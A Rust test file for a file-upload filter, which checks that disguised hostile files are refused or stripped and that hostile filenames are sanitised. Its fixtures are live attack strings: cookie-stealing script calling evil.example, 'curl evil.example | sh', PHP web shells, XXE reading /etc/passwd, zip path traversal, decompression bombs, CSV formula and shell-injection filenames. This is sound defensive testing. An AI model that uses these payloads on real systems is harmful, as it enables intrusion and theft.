//! Files that mean no good. Whatever they call themselves: they are refused, or they are kept as what their content is, under a
//! name of that kind, or written anew without what was hidden in them.

use crate::{kinds, pictures};
use callboard_media::{
    model::{FileKind, Treatment, safe_name},
    ports::PictureError,
};
use image::{DynamicImage, ImageBuffer, ImageFormat, Rgb};
use std::io::Cursor;

/// What may become of one.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum End {
    /// It is not taken.
    Refused,
    /// It is kept as this.
    Kept(FileKind),
    /// It is taken for a picture and then turns out to be none.
    NoPicture,
    /// It is a picture, and what was hidden in it is gone.
    Anew,
}

fn png() -> Vec<u8> {
    let mut bytes = Cursor::new(Vec::new());
    let pixels = ImageBuffer::from_pixel(4, 4, Rgb([9_u8, 9, 9]));
    DynamicImage::from(pixels).write_to(&mut bytes, ImageFormat::Png).unwrap();
    bytes.into_inner()
}

fn jpeg() -> Vec<u8> {
    let mut bytes = Cursor::new(Vec::new());
    let pixels = ImageBuffer::from_pixel(4, 4, Rgb([9_u8, 9, 9]));
    DynamicImage::from(pixels).write_to(&mut bytes, ImageFormat::Jpeg).unwrap();
    bytes.into_inner()
}

/// A PNG that says it is `width` × `height` and has next to nothing in it.
fn bomb(width: u32, height: u32) -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut header = b"IHDR".to_vec();
    header.extend(width.to_be_bytes());
    header.extend(height.to_be_bytes());
    header.extend([8, 2, 0, 0, 0]);
    bytes.extend(13_u32.to_be_bytes());
    let check = crc(&header);
    bytes.extend(&header);
    bytes.extend(check.to_be_bytes());
    bytes.extend([0, 0, 0, 0]);
    bytes.extend(b"IDAT\x35\xaf\x06\x1e");
    bytes
}

fn crc(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(!0_u32, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| {
            if crc & 1 == 1 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 }
        })
    })
}

/// An archive whose first entry has this name.
fn archive(entry: &str) -> Vec<u8> {
    let mut bytes = b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0\0\0\0\0\xff\xff\xff\xff".to_vec();
    bytes.extend(u16::try_from(entry.len()).unwrap().to_le_bytes());
    bytes.extend([0, 0]);
    bytes.extend(entry.bytes());
    bytes.extend([0; 64]);
    bytes
}

fn with(mut bytes: Vec<u8>, tail: &[u8]) -> Vec<u8> {
    bytes.extend(tail);
    bytes
}

const SCRIPT: &[u8] = b"<script>fetch('//evil.example/'+document.cookie)</script>";

/// Name, content, and what may become of it.
fn files() -> Vec<(&'static str, Vec<u8>, End)> {
    use End::{Anew, Kept, NoPicture, Refused};
    let text = |text: &str| text.as_bytes().to_vec();
    let mut jpeg_comment = jpeg()[..2].to_vec();
    jpeg_comment.extend([0xff, 0xfe, 0, 59]);
    jpeg_comment.extend(SCRIPT);
    jpeg_comment.extend(&jpeg()[2..]);
    vec![
        // Pages and drawings, however they are called.
        ("page.html", text("<!DOCTYPE html><script>alert(1)</script>"), Refused),
        ("page.jpg", text("<html><body onload=alert(1)>"), Refused),
        ("page.txt", text("<script>alert(1)</script>"), Refused),
        ("page.txt", text("\u{feff}<html><script>alert(1)</script>"), Refused),
        ("page.csv", text("\n\n  <svg onload=alert(1)>"), Refused),
        ("late.txt", text("Hello\nthere <ScRiPt src=//evil.example></sCrIpT>"), Refused),
        ("frame.txt", text("look: <iframe src=javascript:alert(1)>"), Refused),
        ("image.txt", text("x <img src=x onerror=alert(1)>"), Refused),
        (
            "drawing.svg",
            text("<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>"),
            Refused,
        ),
        ("drawing.png", text("<?xml version='1.0'?><svg onload='alert(1)'/>"), Refused),
        ("drawing.svg.png", text("<!--x--><svg><use href='data:'/></svg>"), Refused),
        (
            "feed.xml",
            text(
                "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
            ),
            Refused,
        ),
        (
            "page.xhtml",
            text("<html xmlns='http://www.w3.org/1999/xhtml'><script/></html>"),
            Refused,
        ),
        ("page.mht", text("MIME-Version: 1.0\n\n<html><script>1</script></html>"), Refused),
        ("page.hta", text("<hta:application/><script>new ActiveXObject</script>"), Refused),
        ("code.php", text("<?php system($_GET['c']); ?>"), Refused),
        ("code.php.jpg", text("GIF <?php system('id'); ?>"), Refused),
        // Programs.
        ("setup.exe", text("MZ\u{90}\0\u{3}\0\0\0"), Refused),
        ("setup.jpg", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec(), Refused),
        ("invoice.pdf", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec(), Refused),
        ("run.sh", text("#!/bin/sh\ncurl evil.example | sh\n"), Refused),
        ("run.txt", text("#!/usr/bin/env python\nimport os"), Refused),
        ("app.class", b"\xca\xfe\xba\xbe\0\0\0\x34".to_vec(), Refused),
        ("mac.app", b"\xcf\xfa\xed\xfe\x07\0\0\x01".to_vec(), Refused),
        ("mod.wasm", b"\0asm\x01\0\0\0".to_vec(), Refused),
        ("font.ttf", b"\0\x01\0\0\0\x11\x01\0".to_vec(), Refused),
        ("link.lnk", b"L\0\0\0\x01\x14\x02\0\0\0\0\0".to_vec(), Refused),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0\0\0".to_vec(), Refused),
        ("note.rtf", text("{\\rtf1{\\object\\objautlink}}"), Refused),
        ("film.swf", b"FWS\x09\x10\0\0\0".to_vec(), Refused),
        ("film.mkv", b"\x1a\x45\xdf\xa3\x01\0\0\0".to_vec(), Refused),
        // Archives and what lies in them.
        ("all.zip", archive("../../etc/cron.d/evil"), Refused),
        ("report.docx", archive("payload.exe"), Refused),
        ("report.docx", archive("../../../etc/ssh/authorized_keys"), Refused),
        ("lib.jar", archive("META-INF/MANIFEST.MF"), Refused),
        ("app.apk", archive("AndroidManifest.xml"), Refused),
        ("all.gz", b"\x1f\x8b\x08\0\0\0\0\0\0\x03".to_vec(), Refused),
        ("all.7z", b"7z\xbc\xaf\x27\x1c\0\x04".to_vec(), Refused),
        ("all.rar", b"Rar!\x1a\x07\x01\0".to_vec(), Refused),
        ("all.tar.bz2", b"BZh91AY&SY".to_vec(), Refused),
        ("all.xz", b"\xfd7zXZ\0\0\x04".to_vec(), Refused),
        ("deck.pptm", archive("ppt/presentation.xml"), Refused),
        ("book.epub", with(archive("mimetype"), b"application/epub+zip"), Refused),
        // Nothing that can be read.
        ("empty.txt", Vec::new(), Refused),
        ("blank.txt", text(" \r\n\t "), Refused),
        ("nul.txt", b"hello\0world".to_vec(), Refused),
        ("wide.txt", b"\xff\xfe<\0s\0c\0r\0i\0p\0t\0".to_vec(), Refused),
        ("seven.txt", text("+ADw-script+AD4-alert(1)+ADw-/script+AD4-\u{1b}"), Refused),
        ("latin.txt", b"caf\xe9 <b>".to_vec(), Refused),
        ("bell.txt", text("ding \u{7}"), Refused),
        // Pictures with something behind, in front or inside.
        ("cat.png", with(png(), SCRIPT), Anew),
        ("cat.jpg", with(jpeg(), SCRIPT), Anew),
        ("cat.html", with(png(), b"<html><script>alert(1)</script>"), Anew),
        ("cat.jpg.exe", with(jpeg(), b"MZ\x90\0"), Anew),
        ("comment.jpg", jpeg_comment, Anew),
        ("cat.php", with(jpeg(), b"<?php system('id'); ?>"), Anew),
        ("zipped.png", with(png(), &archive("evil.exe")), Anew),
        ("cut.png", png()[..30].to_vec(), NoPicture),
        ("cut.jpg", jpeg()[..20].to_vec(), NoPicture),
        ("head.jpg", b"\xff\xd8\xff\xe0<script>alert(1)</script>".to_vec(), NoPicture),
        ("huge.png", bomb(60_000, 60_000), NoPicture),
        ("wide.png", bomb(2_000_000_000, 1), NoPicture),
        ("high.png", bomb(1, 2_000_000_000), NoPicture),
        ("just-too-large.png", bomb(16_000, 16_000), NoPicture),
        ("none.png", bomb(0, 0), NoPicture),
        ("webp.webp", b"RIFF\xff\xff\xff\x7fWEBPVP8 \0\0\0\0".to_vec(), NoPicture),
        // What is kept as it is, and only ever given away to be saved.
        ("both.gif", with(b"GIF89a\x01\0\x01\0\0\0\0;".to_vec(), SCRIPT), Kept(FileKind::Gif)),
        ("js.gif", text("GIF89a/*\u{1}*/=1;alert(1)"), Kept(FileKind::Gif)),
        (
            "open.pdf",
            text("%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"),
            Kept(FileKind::Pdf),
        ),
        ("form.html", text("%PDF-1.4\n<script>alert(1)</script>"), Kept(FileKind::Pdf)),
        ("bomb.docx", archive("word/document.xml"), Kept(FileKind::Docx)),
        ("macro.xlsx", archive("xl/workbook.xml"), Kept(FileKind::Xlsx)),
        ("formula.csv", text("name,=cmd|' /C calc'!A0\n"), Kept(FileKind::Csv)),
        ("song.mp3", with(b"ID3\x04\0\0\0\0\0\0".to_vec(), SCRIPT), Kept(FileKind::Mp3)),
        ("sound.wav", with(b"RIFF\x24\0\0\0WAVEfmt ".to_vec(), SCRIPT), Kept(FileKind::Wav)),
        ("phone.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic".to_vec(), Kept(FileKind::Heic)),
    ]
}

#[test]
fn no_hostile_file_is_taken_for_what_it_is_not() {
    let files = files();
    assert!(files.len() >= 60, "{} files", files.len());
    let mut faults = Vec::new();
    for (name, bytes, expected) in files {
        let found = match kinds::of(&bytes[..bytes.len().min(crate::HEAD)], name) {
            None => End::Refused,
            Some(kind) if kind.treatment() == Treatment::AsItIs => End::Kept(kind),
            Some(_) => match pictures::clean(&bytes) {
                Err(PictureError::Unreadable) => End::NoPicture,
                Err(PictureError::Port(error)) => panic!("{name}: {error}"),
                Ok(clean) => {
                    let hidden = [&b"script"[..], b"<?php", b"MZ\x90", b"PK\x03\x04", b"<html"];
                    for secret in hidden {
                        let kept = clean.bytes.windows(secret.len()).any(|w| w == secret);
                        assert!(!kept, "{name}: {secret:?} is still in it");
                    }
                    End::Anew
                }
            },
        };
        if found != expected {
            faults.push(format!("{name}: {found:?}, not {expected:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn no_hostile_name_leads_anywhere() {
    let names = [
        "../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/shadow",
        "C:\\boot.ini",
        "\\\\host\\share\\x",
        "file:///etc/passwd",
        "photo.jpg\0.html",
        "photo.jpg\r\nSet-Cookie: a=b",
        "photo.jpg\nX: y",
        "gpj.\u{202e}lmth.exe",
        "\u{2066}a\u{2069}.jpg",
        "a\u{200b}.html",
        ".htaccess",
        "....",
        "-rf",
        "CON",
        "NUL.jpg",
        "a\";filename=\"b.html",
        "'; DROP TABLE attachments; --.pdf",
        "$(reboot).jpg",
        "`id`.jpg",
        "%2e%2e%2fx",
        "a.jpg/",
        "<img src=x onerror=alert(1)>.jpg",
        "photo.HTML",
        "photo.jpg.html",
        "x.php5",
        "x.svg",
        "x.jpg.js",
        "\u{feff}x.hta",
        "  . .  ",
        "",
        "🦊.html",
    ];
    for given in names {
        for kind in FileKind::ALL {
            let name = safe_name(given, *kind);
            let ending = name.rsplit_once('.').unwrap().1.to_ascii_lowercase();
            assert!(kind.endings().contains(&ending.as_str()), "{given:?} became {name:?}");
            let forbidden =
                ['/', '\\', '\0', '\r', '\n', '"', '<', '>', '\u{202e}', '\u{2066}', '\u{200b}'];
            assert!(!name.contains(forbidden), "{given:?} became {name:?}");
            assert!(!name.starts_with(['.', '-']) && name.chars().count() <= 120, "{name:?}");
        }
    }
}
